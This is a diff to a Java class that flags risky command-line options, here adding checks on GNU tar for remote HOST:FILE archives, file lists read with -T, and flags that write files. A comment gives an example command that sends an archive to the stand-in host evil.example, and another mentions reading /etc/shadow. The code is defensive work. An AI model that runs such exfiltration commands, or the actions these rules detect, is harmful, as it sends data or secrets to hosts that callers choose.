@@ -136,6 +136,42 @@ final class RiskyFlags {
           ANYWHERE);
 
   /**
+   * GNU tar's {@code -f HOST:FILE} ({@code --file}, old-style {@code tar cf h:x.tar}): an archive
+   * name with a colon, not first and after no {@code /}, is on another host, which tar reaches by
+   * running its {@code --rsh-command} (default {@code /usr/bin/rsh}, often ssh) and {@code rmt}
+   * there (GNU tar manual, "Remote Tape Server"; rtapelib.c {@code _remdev}; GNU tar 1.34 resolves
+   * {@code evil.example} for {@code tar -cf evil.example:/tmp/x.tar a}): {@code -c} sends the
+   * archive to a host the caller chooses. Not risky with {@code --force-local}, which reads the
+   * name as a local file.
+   */
+  static final Flag TAR_REMOTE_ARCHIVE =
+      new Flag(
+          "remote-archive",
+          "names an archive on another host (HOST:FILE), which tar reaches through rsh",
+          ANYWHERE);
+
+  /**
+   * Why tar's {@code -T}/{@code --files-from} (bsdtar's {@code -I} is its synonym, risky anyway as
+   * GNU tar's {@code --use-compress-program}) and {@code --add-file} are risky, whatever their
+   * value and mode. A file list names the files tar archives (read on {@code -c}, {@code -r},
+   * {@code -u}: {@code /etc/shadow} and {@code ../x} are read, only the names stored in the archive
+   * lose their leading {@code /} and {@code ../}) or the members it extracts, from a file the
+   * policy cannot see ({@code -T -}: the caller's stdin). Unless {@code --verbatim-files-from} is
+   * in effect GNU tar also obeys options in it (GNU tar manual, "Reading Names from a File";
+   * checked with GNU tar 1.34): {@code -C DIR} and {@code --directory=DIR} change where later names
+   * are read or extracted to (anywhere), {@code --add-file} names a file, {@code -T} another list;
+   * bsdtar, creating, reads a {@code -C} line and the directory on the next one (bsdtar(1) {@code
+   * -T}, tar/write.c). {@code --verbatim-files-from} and {@code --null} do not make it safe (an
+   * absolute name is still read, and each {@code -T} reads option lines or not as the last {@code
+   * --[no-]verbatim-files-from} before it says), so neither is looked at. {@code --add-file=FILE}
+   * names one file as a flag's value, which {@code paths} does not check. {@code -X}/{@code
+   * --exclude-from} only narrows what is archived or extracted, and is not risky.
+   */
+  private static final String FILE_LIST =
+      "reads the names of the files it archives or extracts (and, in GNU tar, -C DIR) from where"
+          + " the policy cannot see them";
+
+  /**
    * gh's {@code alias set --shell}: the alias runs its expansion with sh. Also what {@link
    * #findAll} reports for an expansion starting with {@code !}, which gh reads the same way (gh
    * alias set --help), so that a rule admits both by naming {@code --shell}.
@@ -937,7 +973,9 @@ final class RiskyFlags {
                 flags(RUNS, ANYWHERE, "-P", "--pager", "-H", "--html"),
                 flags(CONFIG, ANYWHERE, "-C", "--config-file"))));
     // GNU tar(1): programs it runs; -P, and -C with a directory elsewhere (TAR_DIRECTORY), write
-    // outside the working directory.
+    // outside the working directory; file lists name what it reads or extracts (FILE_LIST);
+    // --index-file, --volno-file and -g write the files they name. --file is an option of its own,
+    // not an abbreviation of --files-from (getopt_long(3): an exact name wins).
     tool(
         List.of("tar", "gtar", "bsdtar"),
         new Tool(
@@ -945,7 +983,7 @@ final class RiskyFlags {
             Style.CLUSTERS,
             "bCfFgHIKLNTVX",
             true,
-            Set.of("--checkpoint"),
+            Set.of("--checkpoint", "--file"),
             Set.of(),
             concat(
                 flags(
@@ -960,8 +998,17 @@ final class RiskyFlags {
                     "--new-volume-script",
                     "--rsh-command",
                     "--rmt-command"),
-                flags(WRITES, ANYWHERE, "-P", "--absolute-names"),
-                List.of(TAR_DIRECTORY))));
+                flags(
+                    WRITES,
+                    ANYWHERE,
+                    "-P",
+                    "--absolute-names",
+                    "--index-file",
+                    "--volno-file",
+                    "-g",
+                    "--listed-incremental"),
+                flags(FILE_LIST, ANYWHERE, "-T", "--files-from", "--add-file"),
+                List.of(TAR_DIRECTORY, TAR_REMOTE_ARCHIVE))));
     tool(
         List.of("rsync"),
         new Tool(
@@ -1121,7 +1168,7 @@ final class RiskyFlags {
       }
       String word = oldStyleTar ? "-" + w : w;
       List<Flag> inWord = new ArrayList<>(2);
-      for (String name : names(t, word)) {
+      for (String name : oldStyleTar ? oldStyleNames(w) : names(t, word)) {
         if (name.equals("-e") && t.name().equals("rsync") && argv.contains("--server")) {
           continue; // the receiving side over SSH: -e.LsfxC is protocol information, no shell
         }
@@ -1159,6 +1206,16 @@ final class RiskyFlags {
                 : tarDirectory(t, word, i + 1 < argv.size() ? argv.get(i + 1) : null);
         if (dir != null && leavesWorkdir(dir) && !inWord.contains(TAR_DIRECTORY)) {
           found.add(new Use(w, TAR_DIRECTORY, t));
+        }
+        String archive =
+            oldStyleTar
+                ? oldStyleValue(t, argv, 'f')
+                : tarArchive(t, word, i + 1 < argv.size() ? argv.get(i + 1) : null);
+        if (archive != null
+            && remoteArchive(archive)
+            && !argv.contains("--force-local")
+            && found.stream().noneMatch(u -> u.flag() == TAR_REMOTE_ARCHIVE)) {
+          found.add(new Use(w, TAR_REMOTE_ARCHIVE, t));
         }
       }
       if (t.style() == Style.SCRIPT && endsOptions(t, word)) {
@@ -1518,6 +1575,46 @@ final class RiskyFlags {
       return word.substring(eq + 1);
     }
     return null;
+  }
+
+  /**
+   * The archive {@code word} names with tar's {@code -f}/{@code --file} ({@code next} the word
+   * after it), or null; a long prefix such as {@code --fil} is read as {@code --file} too (GNU tar
+   * calls it ambiguous with {@code --files-from}: erring towards finding).
+   */
+  private static String tarArchive(Tool t, String word, String next) {
+    String v = optionValue(t, word, next, "--file", 'f');
+    if (v != null || !word.startsWith("--")) {
+      return v;
+    }
+    int eq = word.indexOf('=');
+    String name = (eq < 0 ? word : word.substring(0, eq)).toLowerCase(java.util.Locale.ROOT);
+    if (name.length() >= 4 && "--file".startsWith(name)) {
+      return eq < 0 ? next : word.substring(eq + 1);
+    }
+    return null;
+  }
+
+  /**
+   * Whether GNU tar reads archive name {@code name} as HOST:FILE: a colon that is not its first
+   * character, with no {@code /} before it (rtapelib.c {@code _remdev}).
+   */
+  static boolean remoteArchive(String name) {
+    int colon = name.indexOf(':');
+    return colon > 0 && name.lastIndexOf('/', colon) < 0;
+  }
+
+  /**
+   * The options old-style tar's first word holds: every letter, those that take a value included
+   * ({@code tar cfT x.tar list} is {@code -c -f x.tar -T list}; tar(1) "Old option style"), where a
+   * getopt cluster would end at the first letter that takes a value.
+   */
+  private static List<String> oldStyleNames(String cluster) {
+    Set<String> out = new LinkedHashSet<>();
+    for (int j = 0; j < cluster.length(); j++) {
+      out.add("-" + cluster.charAt(j));
+    }
+    return List.copyOf(out);
   }
 
   /**
